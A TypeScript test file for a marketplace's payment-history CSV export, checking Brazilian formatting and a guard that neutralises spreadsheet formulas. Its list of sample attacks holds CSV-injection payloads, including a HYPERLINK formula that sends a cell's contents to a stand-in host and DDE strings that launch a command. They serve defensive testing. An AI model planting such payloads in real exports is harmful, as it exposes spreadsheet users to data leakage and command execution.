import type { PaymentHistoryItem } from '@shared/payments';
import { describe, expect, it } from 'vitest';
import { guardCell, toCsv } from '../../src/server/http/csv';
import { paymentHistoryCsv } from '../../src/server/modules/payments/csv';

const item = (overrides: Partial<PaymentHistoryItem> = {}): PaymentHistoryItem => ({
  id: '1-sale',
  type: 'sale',
  amountCents: 123_456,
  description: 'Liberação da negociação #1',
  status: 'completed',
  date: '2026-07-01T15:04:00.000Z',
  tradeId: 1,
  buyerName: 'jogador_1',
  productTitle: 'Conta Valorant',
  ...overrides,
});

describe('paymentHistoryCsv', () => {
  it('writes a BOM, ; separators, the decimal comma, Brasília time and CRLF', () => {
    const csv = paymentHistoryCsv([
      item(),
      item({ id: '1-fee', type: 'fee', amountCents: -6173, description: 'Taxa' }),
    ]);
    expect(csv).toBe(
      '\uFEFFData;Tipo;Descrição;Produto;Comprador;Status;Valor (R$)\r\n' +
        '01/07/2026 12:04;Venda;Liberação da negociação #1;Conta Valorant;jogador_1;Concluído;1234,56\r\n' +
        '01/07/2026 12:04;Taxa;Taxa;Conta Valorant;jogador_1;Concluído;-61,73\r\n',
    );
  });

  it('quotes a cell holding ; or quotes and keeps a typed formula from running', () => {
    const [, row] = paymentHistoryCsv([
      item({ productTitle: 'Skin "AK"; rara', buyerName: '=HYPERLINK("http://x")' }),
    ]).split('\r\n');
    expect(row).toContain(';"Skin ""AK""; rara";');
    expect(row).toContain(`;"'=HYPERLINK(""http://x"")";`);
  });

  it('labels a sale still in escrow as Pendente', () => {
    const [, row] = paymentHistoryCsv([
      item({ id: 'trade-1-pending', status: 'pending', amountCents: 9500 }),
    ]).split('\r\n');
    expect(row).toMatch(/;Venda;.*;Pendente;95,00$/);
  });
});

/** What members type to turn an export into a live formula (OWASP CSV injection), each as it arrives. */
const attacks = [
  '=HYPERLINK("http://x.test/?d="&A1;"Clique")',
  'Boa venda,=HYPERLINK("http://x.test")',
  'Boa venda, =HYPERLINK("http://x.test")',
  'linha 1\n=HYPERLINK("http://x.test")',
  "linha 1\r\n+cmd|' /C calc'!A0",
  "a;@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  'x\t-2+3',
  'x,"=1+1"',
  '-1+1',
];

/**
 * Every piece a spreadsheet could make a cell of, however it splits the file: at `;`, `,` or tabs, at every line
 * break (even inside quotes), with the leading spaces and quotes an import strips.
 */
function piecesOf(csv: string, separator: string): string[] {
  return csv
    .replace(/^\uFEFF/, '')
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(separator))
    .map((piece) => piece.replace(/^[ "]+/, ''));
}

const isFormula = (piece: string) => /^[=+\-@\t]/.test(piece) && !/^-?\d+(?:[.,]\d+)?$/.test(piece);

describe('the formula guard of every export (CSV injection)', () => {
  it('leaves no piece starting a formula, whatever the separator a spreadsheet splits with', () => {
    const csv = paymentHistoryCsv(
      attacks.map((attack, n) =>
        item({ id: `${n}-sale`, description: attack, productTitle: attack, buyerName: attack }),
      ),
    );
    for (const separator of [';', ',', '\t']) {
      expect(piecesOf(csv, separator).filter(isFormula), `split at ${JSON.stringify(separator)}`).toEqual([]);
    }
    const generic = toCsv([{ header: 'Mensagem', value: (text: string) => text }], attacks);
    for (const separator of [';', ',', '\t'])
      expect(piecesOf(generic, separator).filter(isFormula)).toEqual([]);
  });

  it('puts a quote before each formula start and changes nothing else', () => {
    expect(guardCell('Boa venda,=HYPERLINK("http://x.test")')).toBe(
      'Boa venda,\'=HYPERLINK("http://x.test")',
    );
    expect(guardCell('linha 1\n=1+1')).toBe("linha 1\n'=1+1");
    expect(guardCell('\t=1')).toBe("'\t'=1");
    expect(guardCell('Skin-AK 5 - 10, sem @ no meio')).toBe('Skin-AK 5 - 10, sem @ no meio');
    // A number the server wrote stays a number.
    expect(guardCell('-61,73')).toBe('-61,73');
    expect(guardCell(-5)).toBe('-5');
  });
});
